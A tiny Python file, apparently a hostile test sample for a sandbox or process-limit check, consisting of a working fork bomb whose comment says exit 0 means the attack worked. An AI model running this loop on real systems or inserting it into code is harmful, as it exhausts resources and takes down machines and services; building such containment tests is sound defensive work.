# hostile: fork bomb (exit 0 would mean the attack worked)
import os
while True:
    os.fork()
